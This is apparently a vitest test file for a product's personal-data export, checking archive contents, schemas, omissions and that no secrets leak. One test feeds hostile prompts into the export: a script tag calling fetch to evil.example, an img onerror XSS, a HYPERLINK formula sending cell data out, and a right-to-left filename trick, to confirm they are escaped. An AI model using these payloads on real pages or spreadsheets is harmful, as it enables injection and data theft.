import { readFileSync } from "node:fs";
import { Ajv2020 } from "ajv/dist/2020.js";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Browser } from "../../../local/testing/browser.ts";
import { type Product, startProduct } from "../../../local/testing/product.ts";
import { commitOne } from "../../db/commit.ts";
import { keys } from "../../db/keys.ts";
import { get } from "../../db/read.ts";
import { put } from "../../db/write.ts";
import { epochSeconds, hour, iso } from "../clock.ts";
import { askErasure } from "../erasure/testing/eraser.ts";
import type { UserId } from "../id.ts";
import { imageKey } from "../image/location.ts";
import { account, disclosureNotice, type Generation, items } from "../privacy/inventory.ts";
import { Desk } from "../support/testing/desk.ts";
import { exportLimits } from "./limits.ts";
import { places } from "./place.ts";
import { Unpacked } from "./testing/archive.ts";
import {
  downloaded,
  exportContext,
  exported,
  mebibyte,
  requested,
  seedImages,
  workExports,
} from "./testing/exporter.ts";

let product: Product;
let mia: Browser;
let id: UserId;
const unpacked: Unpacked[] = [];
beforeAll(async () => {
  product = await startProduct();
});
beforeEach(async () => {
  mia = await product.member();
  id = await mia.userId();
});
afterEach(() => {
  for (const each of unpacked.splice(0)) each.remove();
});
afterAll(() => product.stop());

function open(archive: Uint8Array): Unpacked {
  const opened = new Unpacked(archive);
  unpacked.push(opened);
  return opened;
}

const pathOf = ({ id: generation, createdAt }: Generation, n = 0) =>
  `images/${createdAt.slice(0, 7).replace("-", "/")}/${generation}-${n}.webp`;

describe("what stands in an export", () => {
  it("are the very bytes of the images, and every item in the file the inventory names §export.all", async () => {
    const [made] = await seedImages(product, id, { generations: 1, imagesEach: 2, bytesEach: 999 });
    if (!made) throw new Error("nothing made");
    const archive = open(await exported(product, mia));
    for (const image of made.images) {
      const stored = await exportContext(product).images.get(imageKey(made, image));
      expect(archive.bytes(pathOf(made, image.n)).equals(Buffer.from(stored ?? []))).toBe(true);
    }
    for (const { path } of places) expect(archive.paths).toContain(path);
    const kinds = places.flatMap((place) => place.kinds.map((kind) => kind.name));
    for (const kind of kinds) expect(archive.paths).toContain(`schemas/${kind}.schema.json`);
  });

  it("is what the person wrote without signing in, too, from the address that is theirs §export.all", async () => {
    const desk = new Desk(() => product);
    const { email } = (await mia.get("/api/account")).body;
    // Nothing is added to an account that waits to be erased: it stands under the address.
    await askErasure(mia, "grace");
    const { id: asked } = await desk.opened(String(email));
    const { id: other } = await desk.opened();
    expect((await mia.post("/api/account/erasure/undo", {})).status).toBe(200);
    const written = open(await exported(product, mia)).lines("support/requests.jsonl");
    expect(written.map((request) => request.id)).toEqual([asked]);
    expect(JSON.stringify(written)).not.toContain(other);
  });

  it("is as its own schemas say, file by file", async () => {
    await mia.ordered();
    await product.work();
    await exported(product, mia);
    const archive = open(await exported(product, mia));
    const ajv = new Ajv2020({ strict: true, formats: { "date-time": true } });
    let checked = 0;
    for (const { path, form } of places) {
      const values =
        form === "lines"
          ? archive.lines(path)
          : [archive.json<Record<string, unknown> | Record<string, unknown>[] | null>(path)].flat();
      for (const value of values) {
        if (value === null) continue;
        const valid = ajv.compile(archive.json(`schemas/${String(value.type)}.schema.json`));
        expect({ path, valid: valid(value), errors: valid.errors }).toMatchObject({ valid: true });
        ajv.removeSchema();
        checked++;
      }
    }
    expect(checked).toBeGreaterThan(5);
    const valid = ajv.compile(archive.json("schemas/export-manifest.schema.json"));
    expect({ valid: valid(archive.json("export.json")), errors: valid.errors }).toEqual({
      valid: true,
      errors: null,
    });
  });

  it("says in numbers what it holds, and under which policy it was made", async () => {
    await seedImages(product, id, { generations: 3, bytesEach: 10 });
    const archive = open(await exported(product, mia));
    const { counts, policy, cutOff, requestedAt } = archive.json<{
      counts: { files: number; images: number; records: Record<string, number> };
      policy: object;
      cutOff: string;
      requestedAt: string;
    }>("export.json");
    expect(counts.images).toBe(3);
    expect(counts.files).toBe(archive.paths.length - 1);
    expect(counts.records["generations.jsonl"]).toBe(3);
    expect(counts.records["account/account.json"]).toBe(1);
    expect(policy).toEqual({
      version: "2026-11-23",
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
    expect(cutOff >= requestedAt).toBe(true);
    const notice = archive.json<{ stored: { rows: unknown[] }[] }>("processing-notice.json");
    expect(notice.stored.flatMap(({ rows }) => rows).length).toBeGreaterThan(20);
  });

  it("fails for a kind of item the inventory does not know, rather than leave it out", async () => {
    const stray = { name: "stray", attributes: {} };
    await commitOne(
      product.context.table,
      put(stray, { pk: keys.account(id).pk, sk: "STRAY" }, {} as never),
    );
    await requested(mia);
    await expect(workExports(product)).rejects.toThrow("a stray");
  });

  it("holds what was handed to an authority, unless and until a law seals it §legal.log", async () => {
    const { table, clock } = product.context;
    const now = clock.now();
    for (const [n, sealedUntil] of [undefined, iso(now + hour), iso(now - hour)].entries()) {
      const notice = {
        id: `dis_${n}`,
        authority: `Authority ${n}`,
        reference: "1",
        legalBasis: "A law",
        fields: [],
        at: iso(now),
        ...(sealedUntil ? { sealedUntil } : {}),
      };
      const key = keys.disclosureNotice(id, notice.id);
      await commitOne(
        table,
        put(disclosureNotice, key, notice, { ttl: epochSeconds(now + 2 * hour) }),
      );
    }
    const archive = open(await exported(product, mia));
    const told = archive.lines("disclosures.jsonl");
    expect(told.map(({ authority }) => authority)).toEqual(["Authority 0", "Authority 2"]);
    expect(JSON.stringify(told)).not.toContain("sealedUntil");
  });

  it("holds no secret: no hash, no token, no digest, no random part of an address", async () => {
    await seedImages(product, id, {
      generations: 1,
      bytesEach: 10,
      fileToken: "canaryfiletoken",
      leaseOwner: "canary-lease-owner",
    });
    const { table } = product.context;
    const owner = await get(table, account, keys.account(id));
    const secrets = (await product.items())
      .filter(({ pk, type }) => pk === `USER#${id}` && type === items.password.name)
      .map(({ hash }) => String(hash));
    const archive = open(await exported(product, mia));
    const everything = archive.paths.map((path) => archive.bytes(path).toString("latin1")).join();
    expect(secrets).toHaveLength(1);
    for (const secret of [
      ...secrets,
      owner?.imagePrefix ?? "",
      "canaryfiletoken",
      "canary-lease-owner",
      mia.cookies.get("__Host-session") ?? "",
      "leaseOwner",
    ]) {
      expect(secret).not.toBe("");
      expect({ secret, found: everything.includes(secret) }).toEqual({ secret, found: false });
    }
  });
});

describe("what a person wrote", () => {
  const hostile = [
    `</script><script>fetch("http://evil.example")</script>`,
    `"><img src=x onerror=alert(1)>`,
    `=HYPERLINK("http://evil.example?"&A1,"click")`,
    `\u202egnp.exe \u2066 right to left \u0627\u0644\u0639\u0631\u0628\u064a\u0629`,
    `${"\u{1F98A}".repeat(500)}`,
    `x${"long ".repeat(400)}`,
    "a\u0000b\u0007c",
  ];

  it("is text in the pages, never markup, and never a formula in a table", async () => {
    for (const prompt of hostile) {
      await seedImages(product, id, { generations: 1, bytesEach: 10, prompt });
    }
    const archive = open(await exported(product, mia));
    const page = archive.text("index.html");
    expect(page).not.toMatch(/<script|onerror=alert\(1\)>|<img src=x/);
    expect(page).toContain("&lt;/script&gt;");
    expect(page).not.toContain("\u0000");
    expect(page.match(/<meta http-equiv="Content-Security-Policy"/g)).toHaveLength(1);
    expect(archive.text("generations.csv")).toContain(`"'=HYPERLINK(""http`);
    const prompts = archive.lines("generations.jsonl").map(({ prompt }) => prompt);
    expect(prompts.sort()).toEqual([...hostile].sort());
  });
});

describe("a file that is not there", () => {
  it("is named with the reason: deleted by its owner, or lost by us §export.omissions", async () => {
    const [kept, deleted, lost] = await seedImages(product, id, {
      generations: 3,
      bytesEach: 10,
    });
    if (!kept || !deleted || !lost) throw new Error("nothing made");
    await requested(mia);
    const context = exportContext(product);
    let saved = 0;
    await workExports(
      product,
      {},
      {
        ...context,
        archives: {
          ...context.archives,
          async begin(...args) {
            if (saved++ === 0) {
              await mia.delete(`/api/generations/${deleted.id}`);
              await product.context.images.removeAll(imageKey(lost, lost.images[0] ?? never()));
            }
            return context.archives.begin(...args);
          },
        },
      },
    );
    const [ready] = (await mia.get("/api/account/exports")).body.items as unknown as {
      id: string;
    }[];
    const archive = open(Buffer.from(await (await downloaded(mia, ready?.id ?? "")).arrayBuffer()));
    const { omissions } = archive.json<{
      omissions: { path: string; reason: string; words: string }[];
    }>("export.json");
    expect(omissions.map(({ path, reason }) => ({ path, reason }))).toEqual([
      { path: pathOf(deleted), reason: "deleted" },
      { path: pathOf(lost), reason: "missing" },
    ]);
    // Operators delete as well: the reason is not who.
    expect(omissions[0]?.words).toBe("Deleted while the export was written.");
    expect(archive.paths).toContain(pathOf(kept));
    expect(archive.paths).not.toContain(pathOf(deleted));
    expect(archive.text("index.html")).toContain("Deleted while the export");
    expect(product.logged.join("\n")).toContain("an image of an export is missing");
  });

  it("because its time is over is named, too §export.omissions", async () => {
    const soon = Math.floor((product.clock.now() + hour) / 1000) * 1000;
    const [made] = await seedImages(product, id, {
      generations: 1,
      bytesEach: 10,
      expiresAt: iso(soon),
    });
    if (!made) throw new Error("nothing made");
    const { id: exportId } = await requested(mia);
    const context = exportContext(product);
    await workExports(
      product,
      {},
      {
        ...context,
        archives: {
          ...context.archives,
          async begin(key) {
            product.clock.advance(2 * hour);
            return context.archives.begin(key);
          },
        },
      },
    );
    const archive = open(Buffer.from(await (await downloaded(mia, exportId)).arrayBuffer()));
    expect(archive.json("export.json").omissions).toMatchObject([
      { path: pathOf(made), reason: "expired" },
    ]);
  });

  it("in any archive is named in the first", async () => {
    const made = await seedImages(product, id, { generations: 4, bytesEach: 3 * mebibyte });
    const last = made.at(-1) ?? never();
    await product.context.images.removeAll(imageKey(last, last.images[0] ?? never()));
    const { id: exportId } = await requested(mia);
    await workExports(product, { partBytes: 11 * mebibyte });
    const first = open(Buffer.from(await (await downloaded(mia, exportId, 1)).arrayBuffer()));
    const second = open(Buffer.from(await (await downloaded(mia, exportId, 2)).arrayBuffer()));
    expect(first.checked.info["Bag-Count"]).toBe("1 of 2");
    expect(second.checked.info["Bag-Count"]).toBe("2 of 2");
    expect(first.checked.info["Bag-Group-Identifier"]).toBe(exportId);
    expect(second.checked.info["Bag-Group-Identifier"]).toBe(exportId);
    for (const archive of [first, second]) {
      expect(archive.json("export.json").omissions).toMatchObject([
        { path: pathOf(last), reason: "missing" },
      ]);
    }
    expect(first.paths).toContain("generations.jsonl");
    expect(second.paths).not.toContain("generations.jsonl");
    expect(
      first.paths.concat(second.paths).filter((path) => path.startsWith("images/")),
    ).toHaveLength(3);
  });
});

it("an account without anything still gets a bag, with pages that say so", async () => {
  const archive = open(await exported(product, mia));
  expect(archive.text("index.html")).toContain("There are no images in this archive.");
  expect(archive.json("consents/receipts.json")).toBeInstanceOf(Array);
  expect(archive.text("billing/transactions.csv").split("\r\n")).toHaveLength(2);
});

it("many images are shown in pages that lead to one another and to every file", async () => {
  const made = await seedImages(product, id, { generations: 5, bytesEach: 10 });
  const { id: exportId } = await requested(mia);
  await workExports(product, { pageImages: 2 });
  const archive = open(Buffer.from(await (await downloaded(mia, exportId)).arrayBuffer()));
  const pages = ["index.html", "index-2.html", "index-3.html"];
  expect(archive.paths.filter((path) => path.endsWith(".html")).sort()).toEqual([...pages].sort());
  const shown = pages.flatMap((page) => {
    const links = [...archive.text(page).matchAll(/href="([^"#]+)/g)].map(([, to]) => to ?? "");
    for (const link of links) expect(archive.paths).toContain(link);
    for (const other of pages) expect(links).toContain(other);
    return links.filter((link) => link.startsWith("images/"));
  });
  expect(shown).toEqual(made.map((of) => pathOf(of)));
});

it("no more is held in memory than a few images and two pieces, however much there is", async () => {
  const each = 2 * mebibyte;
  await seedImages(product, id, { generations: 40, bytesEach: each });
  const context = exportContext(product);
  let held = 0;
  let most = 0;
  await requested(mia);
  await workExports(
    product,
    {},
    {
      ...context,
      images: {
        async get(key) {
          held += each;
          most = Math.max(most, held);
          return context.images.get(key);
        },
      },
      archives: {
        ...context.archives,
        async add(...args) {
          const added = await context.archives.add(...args);
          held -= Math.floor(args[2].byteLength / each) * each;
          return added;
        },
      },
    },
  );
  const { ahead, pieceBytes } = exportLimits;
  expect(most).toBeLessThanOrEqual((ahead + 2) * each + 2 * (pieceBytes + each));
  expect(most).toBeLessThan(40 * each * 0.75);
});

it("the check of bags used here finds what is wrong with one", async () => {
  const archive = await exported(product, mia);
  const at = archive.indexOf(Buffer.from("nana img holds about one person"));
  const forged = Buffer.from(archive);
  forged[at] = 0x4e;
  expect(() => new Unpacked(forged)).toThrow(/bad CRC|wrong sum|broken/);
  expect(readFileSync(new URL("testing/verify-bag.py", import.meta.url), "utf8")).not.toMatch(
    /import (?!hashlib|json|re|sys|zipfile)/,
  );
});

function never(): never {
  throw new Error("nothing made");
}
